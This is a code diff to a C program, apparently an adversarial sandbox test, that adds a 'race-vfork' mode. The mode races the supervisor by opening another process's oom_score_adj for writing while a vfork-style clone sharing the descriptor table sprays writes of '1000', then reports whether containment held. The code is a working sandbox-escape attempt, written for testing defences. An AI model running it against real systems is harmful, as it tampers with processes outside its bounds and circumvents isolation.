@@ -14,6 +14,9 @@
  *   adv_objwrite race PID SECONDS  one thread opens PID's oom_score_adj
  *       for writing over and over, others write "1000" into every
  *       descriptor number it may get, before the supervisor can close it.
+ *   adv_objwrite race-vfork PID SECONDS  the same, the writer a child of
+ *       clone(CLONE_VM | CLONE_VFORK | CLONE_FILES): another process
+ *       sharing the table, its parent waiting for it in the kernel.
  *   adv_objwrite control  what the program may write of its own: its
  *       oom_score_adj, a child's, a thread's comm, the uid_map of a user
  *       namespace it made, /proc/self files of a procfs it mounted in pid
@@ -183,10 +186,36 @@ static void *spray(void *arg)
 	return NULL;
 }
 
+/* Opens the target for writing over and over for seconds, then stops
+ * the sprayers. */
+static void open_loop(int seconds, long *opens, long *opened)
+{
+	time_t end = time(NULL) + seconds;
+
+	while (time(NULL) < end) {
+		int fd = open(target, O_WRONLY | O_CLOEXEC);
+
+		(*opens)++;
+		if (fd >= 0) {
+			(*opened)++;
+			close(fd);
+		}
+	}
+	atomic_store(&stop, 1);
+}
+
+static int race_verdict(long opens, long opened)
+{
+	RESULT("%ld opens, %ld opened, %d writes through another task reached %s",
+	       opens, opened, atomic_load(&hits), target);
+	if (opened || atomic_load(&hits))
+		return adv_verdict(ADV_ESCAPED, "the target's oom_score_adj was written");
+	return adv_verdict(ADV_CONTAINED, "no write reached the target");
+}
+
 static int race(long pid, int seconds)
 {
 	pthread_t th[3];
-	time_t end = time(NULL) + seconds;
 	long opens = 0, opened = 0;
 
 	snprintf(target, sizeof(target), "/proc/%ld/oom_score_adj", pid);
@@ -195,23 +224,53 @@ static int race(long pid, int seconds)
 	      seconds, target);
 	for (int i = 0; i < 3; i++)
 		pthread_create(&th[i], NULL, spray, NULL);
-	while (time(NULL) < end) {
-		int fd = open(target, O_WRONLY | O_CLOEXEC);
-
-		opens++;
-		if (fd >= 0) {
-			opened++;
-			close(fd);
-		}
-	}
-	atomic_store(&stop, 1);
+	open_loop(seconds, &opens, &opened);
 	for (int i = 0; i < 3; i++)
 		pthread_join(th[i], NULL);
-	RESULT("%ld opens, %ld opened, %d writes through another thread reached %s",
-	       opens, opened, atomic_load(&hits), target);
-	if (opened || atomic_load(&hits))
-		return adv_verdict(ADV_ESCAPED, "the target's oom_score_adj was written");
-	return adv_verdict(ADV_CONTAINED, "no write reached the target");
+	return race_verdict(opens, opened);
+}
+
+/* race-vfork: the sprayer is no thread but a process sharing the
+ * table, made by a vfork (its parent waits in the kernel meanwhile). */
+static int seconds_of_race;
+static long race_opens, race_opened;
+
+static void *opener(void *arg)
+{
+	(void)arg;
+	open_loop(seconds_of_race, &race_opens, &race_opened);
+	return NULL;
+}
+
+static int spray_child(void *arg)
+{
+	spray(arg);
+	_exit(0);
+}
+
+static int race_vfork(long pid, int seconds)
+{
+	static char stack[256 * 1024] __attribute__((aligned(16)));
+	pthread_t th;
+	pid_t c;
+
+	snprintf(target, sizeof(target), "/proc/%ld/oom_score_adj", pid);
+	seconds_of_race = seconds;
+	FACT("uid %d; the target, pid %ld, is outside this sandbox", (int)getuid(), pid);
+	TRIED("for %d s: a thread opens %s for writing in a loop; a child of "
+	      "clone(CLONE_VM | CLONE_VFORK | CLONE_FILES), sharing the table, writes "
+	      "\"1000\" into descriptors 3-15 while its parent waits for it", seconds, target);
+	pthread_create(&th, NULL, opener, NULL);
+	c = clone(spray_child, stack + sizeof(stack),
+		  CLONE_VM | CLONE_VFORK | CLONE_FILES | SIGCHLD, NULL);
+	if (c < 0) {
+		atomic_store(&stop, 1);
+		pthread_join(th, NULL);
+		return adv_verdict(ADV_CANNOT, "clone(CLONE_VFORK | CLONE_FILES) failed");
+	}
+	waitpid(c, NULL, 0);
+	pthread_join(th, NULL);
+	return race_verdict(race_opens, race_opened);
 }
 
 /* ---- control --------------------------------------------------------------- */
@@ -347,8 +406,10 @@ int main(int argc, char **argv)
 			      argc > 4 ? argv[4] : NULL);
 	if (argc == 4 && !strcmp(argv[1], "race"))
 		return race(atol(argv[2]), atoi(argv[3]));
+	if (argc == 4 && !strcmp(argv[1], "race-vfork"))
+		return race_vfork(atol(argv[2]), atoi(argv[3]));
 	if (argc == 3 && !strcmp(argv[1], "control"))
 		return control(argv[2]);
-	fprintf(stderr, "usage: adv_objwrite attack PID [CGROUP [DIR]] | race PID SECONDS | control DIR\n");
+	fprintf(stderr, "usage: adv_objwrite attack PID [CGROUP [DIR]] | race PID SECONDS | race-vfork PID SECONDS | control DIR\n");
 	return ADV_CANNOT;
 }
